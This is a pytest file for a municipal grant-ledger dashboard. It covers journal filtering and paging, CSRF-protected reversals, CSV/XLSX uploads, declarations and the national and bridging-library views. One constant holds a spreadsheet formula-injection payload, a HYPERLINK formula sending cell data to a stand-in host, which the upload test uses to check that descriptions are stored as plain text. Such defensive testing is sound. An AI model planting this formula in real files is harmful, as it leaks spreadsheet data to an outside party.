"""A municipality's work on the dashboard without scripts (issue 18, Must show 2): its journal, paged and
filtered, each line with its event id; reversing a posting with a reason through a CSRF-protected form that
runs the API's own command and rules, answering with the event id and the balance after it."""

from __future__ import annotations

import io
import re
import threading
import time
from collections.abc import Iterator
from contextlib import closing
from datetime import date
from decimal import Decimal

import pytest
from flask.testing import FlaskClient

from contracts.topics import EXPENDITURES
from services.common.spreadsheet import xlsx_bytes
from services.ledger.adapters.http import dashboard
from services.ledger.domain.model import Expenditure
from services.ledger.entrypoints.projector import build_runner
from services.ledger.read_side import PointInTime
from tests.operators.conftest import World, build_world, project_until
from tests.operators.test_dashboard_access import sign_in
from tests.support.infra import KafkaInfo
from tests.support.kafka_topics import publish_all, service_relay

CODE = "GM0363"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"klik")'
JOURNAL = f"/dashboard/municipalities/{CODE}/2024/journal"
EVENT_ROW = re.compile(r'<tr data-event-id="([0-9a-f-]{36})" data-event-type="(\w+)"')
FORM_FIELD = re.compile(r'name="(csrf_token|idempotency_key)" value="([^"]+)"')
REVERSE_LINK = re.compile(r'href="(/dashboard/municipalities/GM0363/expenditures/[0-9a-f-]{36}/reversal)"')


@pytest.fixture
def world(store_env: dict[str, str], kafka: KafkaInfo, topic_prefix: str) -> Iterator[World]:
    built = build_world(store_env, kafka, topic_prefix)
    yield built
    built.close()


def _client(world: World, role: str = "municipality", code: str | None = CODE) -> FlaskClient:
    client = world.ledger.test_client()
    sign_in(client, world.tokens.token(role, code) if code else world.tokens.token(role))
    return client


def _lines(page: str) -> list[tuple[str, str]]:
    return EVENT_ROW.findall(page)


def _spent(world: World) -> int:
    return int(world.ledger.extensions["ledger"].queries.balances(CODE, 2024, PointInTime())["spent_cents"])


def test_the_journal_shows_every_line_with_its_event_id_filtered_and_paged(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    client = _client(world)
    page = client.get(JOURNAL).get_data(as_text=True)
    lines = _lines(page)
    # four postings, a fifth booked twice and its reversal (the world's)
    assert [kind for _id, kind in lines].count("ExpenditureRecorded") == 5 and len(lines) == 6
    assert all(event_id in page for event_id, _kind in lines)  # shown, not only in an attribute
    assert 'data-total="6"' in page and len(REVERSE_LINK.findall(page)) == 4  # the reversed one has no link
    promotion = _lines(client.get(f"{JOURNAL}?category=promotion").get_data(as_text=True))
    assert len(promotion) == 3  # 5,000 and the double booking and its reversal
    reversed_only = client.get(f"{JOURNAL}?reversed=reversed").get_data(as_text=True)
    assert sorted(kind for _id, kind in _lines(reversed_only)) == ["ExpenditureRecorded", "ExpenditureReversed"]
    assert "data-reversed-by=" in reversed_only
    assert len(_lines(client.get(f"{JOURNAL}?reversed=open").get_data(as_text=True))) == 4
    monkeypatch.setattr(dashboard, "JOURNAL_PAGE_SIZE", 4)
    first, second = (client.get(f"{JOURNAL}?page={n}").get_data(as_text=True) for n in (1, 2))
    assert len(_lines(first)) == 4 and len(_lines(second)) == 2 and 'rel="next"' in first and 'rel="prev"' in second
    assert {i for i, _k in _lines(first)} | {i for i, _k in _lines(second)} == {i for i, _k in lines}
    for bad, field in (("?category=beer", "category"), ("?reversed=maybe", "reversed"), ("?page=0", "page"),
                       ("?page=%D9%A1", "page")):
        refused = client.get(JOURNAL + bad)
        assert refused.status_code == 422 and field in refused.get_data(as_text=True), bad
    assert client.get(f"{JOURNAL}?page=3").status_code == 404


def _form(client: FlaskClient, path: str) -> dict[str, str]:
    page = client.get(path)
    assert page.status_code == 200, page.data[:300]
    return dict(FORM_FIELD.findall(page.get_data(as_text=True)))


def test_reversing_from_the_journal_runs_the_apis_command_and_shows_the_event_and_the_balance_after(
    world: World
) -> None:
    client = _client(world)
    link = REVERSE_LINK.findall(client.get(f"{JOURNAL}?category=network_orchestration").get_data(as_text=True))[0]
    before = _spent(world)
    fields = _form(client, link)

    # refused input changes nothing and names the field
    empty = client.post(link, data={**fields, "reason": "", "booked_on": ""})
    assert empty.status_code == 422 and 'id="reason-error"' in empty.get_data(as_text=True)
    too_early = client.post(link, data={**fields, "reason": "wrong", "booked_on": "2024-01-01"})
    assert too_early.status_code == 422 and 'id="refusal"' in too_early.get_data(as_text=True)
    no_csrf = client.post(link, data={"idempotency_key": fields["idempotency_key"], "reason": "wrong"})
    assert no_csrf.status_code == 403
    application = world.ledger.extensions["ledger"].application
    stored = application.recorder.max_notification_id()

    # the projector runs beside the request, and the relay publishes what the request stores, so the page can
    # show the balance after the reversal
    stop, ready = threading.Event(), threading.Event()
    failures: list[str] = []
    rounds = [0]

    def pump() -> None:
        deadline = time.monotonic() + 120  # the test stops it long before; a failed one never leaves it running
        with service_relay(world.settings, application, EXPENDITURES) as relay, closing(
            build_runner(world.settings)
        ) as runner:
            while not stop.is_set() and time.monotonic() < deadline:
                rounds[0] += 1
                try:
                    relay.run_once()
                    if runner.run_once(timeout_ms=200) == 0 and runner.consumer.assignment():
                        ready.set()  # joined its group and caught up: from here it projects within a round
                except Exception as error:  # noqa: BLE001 - as the projector's own loop (run_forever): retried
                    failures.append(repr(error))
                    runner.rewind()
                    stop.wait(0.5)

    projector = threading.Thread(target=pump, daemon=True)
    projector.start()
    try:
        assert ready.wait(timeout=60), f"the projector did not start in {rounds[0]} rounds; failures: {failures}"
        done = client.post(link, data={**fields, "reason": "booked in the wrong year", "booked_on": "2024-05-01"})
    finally:
        stop.set()
        projector.join(timeout=30)
    page = done.get_data(as_text=True)
    assert done.status_code == 201, page[:500]
    event_id = re.search(r'data-event-id="([0-9a-f-]{36})"', page).group(1)  # type: ignore[union-attr]
    assert application.recorder.max_notification_id() == stored + 1  # one event: the reversal
    spent_after = int(re.search(r'data-figure="spent_cents" data-cents="(-?\d+)"', page).group(1))  # type: ignore[union-attr]
    assert spent_after == before - 12_345_67 == _spent(world)

    again = client.post(link, data={**fields, "reason": "booked in the wrong year", "booked_on": "2024-05-01"})
    assert again.status_code == 201 and event_id in again.get_data(as_text=True)  # the same form: a retry
    assert application.recorder.max_notification_id() == stored + 1
    project_until(world.settings, world.ledger, [event_id])
    journal = client.get(f"{JOURNAL}?category=network_orchestration").get_data(as_text=True)
    assert (event_id, "ExpenditureReversed") in _lines(journal) and f'data-reversed-by="{event_id}"' in journal


def test_only_the_municipality_itself_reverses(world: World) -> None:
    own = _client(world)
    link = REVERSE_LINK.findall(own.get(JOURNAL).get_data(as_text=True))[0]
    for role, code in (("auditor", None), ("ministry", None), ("municipality", "GM0599")):
        other = _client(world, role, code)
        journal = other.get(JOURNAL)
        assert journal.status_code == (403 if role == "municipality" else 200), role
        assert REVERSE_LINK.findall(journal.get_data(as_text=True)) == []
        assert other.get(link).status_code == 403
        fields = dict(FORM_FIELD.findall(other.get("/dashboard/login").get_data(as_text=True)))
        fields["idempotency_key"] = "5d1f0c4e-2b1a-4c3d-8e9f-0a1b2c3d4e5f"
        stored = world.ledger.extensions["ledger"].application.recorder.max_notification_id()
        assert other.post(link, data={**fields, "reason": "not mine"}).status_code == 403
        assert world.ledger.extensions["ledger"].application.recorder.max_notification_id() == stored


UPLOAD = f"/dashboard/municipalities/{CODE}/upload"
CSV_HEADER = "grant_year,category,amount,booked_on,counterparty_id,counterparty_name,description,reference\n"


def _stored(world: World) -> int:
    return int(world.ledger.extensions["ledger"].application.recorder.max_notification_id() or 0)


def _upload(client: FlaskClient, fields: dict[str, str], name: str, data: bytes) -> tuple[int, str]:
    answer = client.post(UPLOAD, data={**fields, "file": (io.BytesIO(data), name)},
                         content_type="multipart/form-data")
    return answer.status_code, answer.get_data(as_text=True)


def test_uploading_a_csv_or_an_xlsx_records_all_rows_or_none_and_names_every_refused_line(world: World) -> None:
    client = _client(world)
    assert 'id="upload-link"' in client.get(f"/dashboard/municipalities/{CODE}/2024").get_data(as_text=True)
    fields = _form(client, UPLOAD)
    before = _stored(world)

    bad_csv = (CSV_HEADER + "2024,promotion,\"1.250,00\",2024-06-01,P-1,Printer,posters,UP-1\n"
               "2024,promotion,1.250,2024-06-01,P-1,Printer,posters,UP-2\n"
               "2024,beer,10,2024-06-01,P-1,Printer,posters,UP-3\n").encode()
    status, page = _upload(client, fields, "uitgaven.csv", bad_csv)
    assert status == 422 and 'data-line="line 3.amount"' in page and 'data-line="line 4.category"' in page
    assert 'data-line="line 2' not in page and _stored(world) == before  # nothing stored on any error

    rows = [[2024, "promotion", Decimal("1250.50"), date(2024, 6, 1), "P-1", "Printer", HOSTILE, "UP-4"],
            [2024, "network_orchestration", 3, date(2024, 6, 2), "W-1", "Wijkteam", "meeting", "UP-5"]]
    header = CSV_HEADER.strip().split(",")
    status, page = _upload(client, fields, "uitgaven.xlsx", xlsx_bytes("import", header, rows))
    assert status == 201, page[:600]
    assert _stored(world) == before + 2
    found = {e.reference: e for e in _expenditures(world)}
    assert found["UP-4"].amount_cents == 125050 and found["UP-4"].description == HOSTILE  # text, as typed
    assert found["UP-5"].amount_cents == 300 and str(found["UP-5"].booked_on) == "2024-06-02"
    again_status, again = _upload(client, fields, "uitgaven.xlsx", xlsx_bytes("import", header, rows))
    assert again_status == 201 and _stored(world) == before + 2  # the same form again: a retry, not a second import

    fresh = _form(client, UPLOAD)
    third_of_a_cent = [[2024, "promotion", Decimal("10.005"), date(2024, 6, 3), "P-1", "Printer", "x", "UP-6"]]
    status, page = _upload(client, fresh, "u.xlsx", xlsx_bytes("import", header, third_of_a_cent))
    assert status == 422 and 'data-line="line 2.amount"' in page and _stored(world) == before + 2
    for name, data in (("u.xlsx", b"not a zip"), ("u.pdf", b"%PDF-1.4"), ("u.csv", "é".encode("latin-1"))):
        status, page = _upload(client, fresh, name, data)
        assert status == 422 and 'id="refusal"' in page, name
    assert _stored(world) == before + 2
    no_csrf = client.post(UPLOAD, data={"idempotency_key": fresh["idempotency_key"],
                                        "file": (io.BytesIO(bad_csv), "u.csv")}, content_type="multipart/form-data")
    assert no_csrf.status_code == 403


def test_only_the_municipality_itself_uploads(world: World) -> None:
    for role, code in (("auditor", None), ("municipality", "GM0599")):
        other = _client(world, role, code)
        assert other.get(UPLOAD).status_code == 403
        fields = dict(FORM_FIELD.findall(other.get("/dashboard/login").get_data(as_text=True)))
        fields["idempotency_key"] = "5d1f0c4e-2b1a-4c3d-8e9f-0a1b2c3d4e5f"
        before = _stored(world)
        data = (CSV_HEADER + "2024,promotion,10,2024-06-01,P-1,Printer,posters,X-1\n").encode()
        assert _upload(other, fields, "u.csv", data)[0] == 403 and _stored(world) == before, role


def _expenditures(world: World) -> list[Expenditure]:
    application = world.ledger.extensions["ledger"].application
    ids = {item.originator_id for item in application.recorder.select_notifications(start=1, limit=10_000)}
    return [found for found in (application.repository.get(i) for i in ids) if isinstance(found, Expenditure)]


def test_declaring_the_sisa_line_from_the_municipal_page(world: World) -> None:
    client = _client(world)
    page = client.get(f"/dashboard/municipalities/{CODE}/2024").get_data(as_text=True)
    assert 'id="declare-2024"' in page
    fields = dict(FORM_FIELD.findall(page))
    declarations = f"/dashboard/municipalities/{CODE}/sisa/2024/declarations"
    before = _stored(world)
    missing = client.post(declarations, data={"csrf_token": fields["csrf_token"], "grant_year": "2024"})
    assert missing.status_code == 422 and "final_account" in missing.get_data(as_text=True)
    assert client.post(declarations, data={"grant_year": "2024", "final_account": "true"}).status_code == 403
    assert _stored(world) == before
    done = client.post(declarations, data={"csrf_token": fields["csrf_token"], "grant_year": "2024",
                                           "final_account": "true"})
    assert done.status_code == 201 and _stored(world) == before + 1
    event_id = re.search(r'data-event-id="([0-9a-f-]{36})"', done.get_data(as_text=True)).group(1)  # type: ignore[union-attr]
    twice = client.post(declarations, data={"csrf_token": fields["csrf_token"], "grant_year": "2024",
                                            "final_account": "false"})
    assert twice.status_code == 409 and _stored(world) == before + 1  # a line is declared once
    publish_all(world.settings, world.ledger.extensions["ledger"].application, EXPENDITURES)
    project_until(world.settings, world.ledger, [event_id])
    answer = world.ledger.test_client().get(f"/v1/municipalities/{CODE}/sisa/2024",
                                            headers=world.tokens.headers("municipality", CODE)).json
    line = next(line for line in answer["lines"] if line["grant_year"] == 2024)
    assert (line["declared"], line["declared_by"], line["eindverantwoording"]) == (True, "municipality", "Ja")
    assert 'id="declare-2024"' not in client.get(f"/dashboard/municipalities/{CODE}/2024").get_data(as_text=True)
    ministry = _client(world, "ministry", None)
    ministry_fields = dict(FORM_FIELD.findall(ministry.get("/dashboard/login").get_data(as_text=True)))
    assert ministry.post("/dashboard/municipalities/GM0599/sisa/2024/declarations",
                         data={**ministry_fields, "grant_year": "2024", "final_account": "true"}).status_code == 403


ROW_CODE = re.compile(r'<tr data-code="(GM\d{4})">')


@pytest.mark.parametrize("store_env", ["sqlite"], indirect=True)  # sorting and lists: the same on either store
def test_the_national_view_sorts_by_each_column_filters_by_spent_share_and_lists_what_needs_attention(
    world: World
) -> None:
    client = _client(world, "ministry", None)
    national = "/dashboard/national/2024"
    by_spent = client.get(f"{national}?sort=spent_cents&order=desc").get_data(as_text=True)
    codes = ROW_CODE.findall(by_spent)
    assert codes[:2] == ["GM0363", "GM0599"] and len(codes) == 6
    assert 'data-column="spent_cents"' in by_spent and 'aria-sort="descending"' in by_spent
    ascending = ROW_CODE.findall(client.get(f"{national}?sort=spent_cents&order=asc").get_data(as_text=True))
    assert ascending[-2:] == ["GM0599", "GM0363"]
    for column in dashboard.SORT_KEYS:  # every column sorts, both ways
        for order in ("asc", "desc"):
            page = client.get(f"{national}?sort={column}&order={order}")
            assert page.status_code == 200 and sorted(ROW_CODE.findall(page.get_data(as_text=True))) == sorted(codes)
    spending = ROW_CODE.findall(client.get(f"{national}?min_spent_pct=1").get_data(as_text=True))
    assert sorted(spending) == ["GM0363", "GM0599"]
    assert "GM0363" not in ROW_CODE.findall(client.get(f"{national}?max_spent_pct=0").get_data(as_text=True))
    page = client.get(national).get_data(as_text=True)
    not_advanced = re.findall(r'<li data-code="(GM\d{4})" data-cents="(\d+)">', page)
    assert sorted(code for code, _c in not_advanced) == sorted(set(codes) - {"GM0363", "GM0599"})
    assert all(int(cents) > 0 for _code, cents in not_advanced)
    assert len(re.findall(r'<li data-code="GM\d{4}" data-sisa="(late|open)">', page)) == 6  # none declared
    for bad, field in (("?sort=colour", "sort"), ("?order=up", "order"), ("?min_spent_pct=abc", "min_spent_pct"),
                       ("?max_spent_pct=1001", "max_spent_pct")):
        refused = client.get(national + bad)
        assert refused.status_code == 422 and field in refused.get_data(as_text=True), bad


ACCOUNT_CELL = re.compile(r'<tr data-library="([^"]+)">.*?<td data-account="([a-z_]*)">(.*?)</td>', re.S)
OPEN_ACCOUNT = re.compile(r'<li data-library="([^"]+)" data-account="(late|missing)">')
# build_world: NL-KVK-90000001 submitted on 2023-08-20 (on time), NL-KVK-90000002 on 2023-09-20 (late, the
# deadline being 2023-09-01), the other four demo libraries never did
ACCOUNTS_TODAY = {"NL-KVK-90000001": "on_time", "NL-KVK-90000002": "late"} | {
    f"NL-KVK-9000000{n}": "missing" for n in range(3, 7)
}
ACCOUNTS_AS_OF = {
    "2023-08-31": {"NL-KVK-90000001": "on_time"} | {f"NL-KVK-9000000{n}": "not_due" for n in range(2, 7)},
    "2023-09-02": {"NL-KVK-90000001": "on_time"} | {f"NL-KVK-9000000{n}": "missing" for n in range(2, 7)},
}


def _account_cells(page: str) -> dict[str, tuple[str, str]]:
    return {library: (status, shown) for library, status, shown in ACCOUNT_CELL.findall(page)}


@pytest.mark.parametrize("store_env", ["sqlite"], indirect=True)
def test_the_bridging_libraries_are_listed_with_their_account_status_for_bzk_and_the_kb(world: World) -> None:
    ministry, kb = _client(world, "ministry", None), _client(world, "kb", None)
    for client, path in ((ministry, "/dashboard/national/2024"), (kb, "/dashboard/bridge"), (kb, "/dashboard/")):
        for as_of, expected in (("", ACCOUNTS_TODAY), *ACCOUNTS_AS_OF.items()):
            page = client.get(f"{path}?lang=en" + (f"&as_of={as_of}" if as_of else ""))
            if path == "/dashboard/" and as_of:
                continue  # the home page shows today
            assert page.status_code == 200, (path, as_of)
            text = page.get_data(as_text=True)
            cells = _account_cells(text)
            assert {library: status for library, (status, _shown) in cells.items()} == expected, (path, as_of)
            listed = sorted(OPEN_ACCOUNT.findall(text))
            assert listed == sorted((lib, st) for lib, st in expected.items() if st in ("late", "missing")), path
        cells = {library: shown for library, (_status, shown) in _account_cells(client.get(f"{path}?lang=en").get_data(
            as_text=True)).items()}
        assert "on time, submitted August 20, 2023" in cells["NL-KVK-90000001"]
        assert "late, submitted September 20, 2023 (deadline September 1, 2023)" in cells["NL-KVK-90000002"]
        assert "missing (deadline September 1, 2023)" in cells["NL-KVK-90000003"]
        dutch = client.get(f"{path}?lang=nl").get_data(as_text=True)
        assert "te laat, ingediend 20 september 2023 (uiterste datum 1 september 2023)" in dutch
    # the KB reads the bridging subsidy, not the municipalities' books
    assert kb.get("/dashboard/national/2024").status_code == 403
    assert kb.get("/dashboard/municipalities/GM0363/2024").status_code == 403
    bridge_page = kb.get("/dashboard/bridge?lang=en").get_data(as_text=True)
    assert "Municipal IDO funding" not in bridge_page and "GM0363" not in bridge_page


@pytest.mark.parametrize("store_env", ["sqlite"], indirect=True)
def test_the_api_answers_the_bridging_accounts_to_the_kb_and_in_the_national_view(world: World) -> None:
    client = world.ledger.test_client()
    answer = client.get("/v1/bridge", headers=world.tokens.headers("kb"))
    assert answer.status_code == 200, answer.json
    bridge = answer.json
    assert {row["library_id"]: row["account_status"] for row in bridge["libraries"]} == ACCOUNTS_TODAY
    assert (bridge["accounts_late"], bridge["accounts_missing"], bridge["account_deadline"]) == (1, 4, "2023-09-01")
    late = next(row for row in bridge["libraries"] if row["library_id"] == "NL-KVK-90000002")
    assert (late["account_submitted_on"], late["account_deadline"]) == ("2023-09-20", "2023-09-01")
    # spent in full by the account: nothing reclaimed
    assert late["settled_cents"] == late["paid_cents"] > 0 and late["reclaim_issued_cents"] == 0
    national = client.get("/v1/balances/2024", headers=world.tokens.headers("ministry")).json["bridge"]
    assert {k: v for k, v in national.items()} == {k: v for k, v in bridge.items() if k in national}
    earlier = client.get("/v1/bridge?as_of=2023-08-31", headers=world.tokens.headers("kb")).json
    assert {row["library_id"]: row["account_status"] for row in earlier["libraries"]} == ACCOUNTS_AS_OF["2023-08-31"]
    assert (earlier["accounts_late"], earlier["accounts_missing"]) == (0, 0)
    assert client.get("/v1/bridge", headers=world.tokens.headers("municipality", "GM0363")).status_code == 403
    assert client.get("/v1/bridge?as_of=yesterday", headers=world.tokens.headers("kb")).status_code == 422
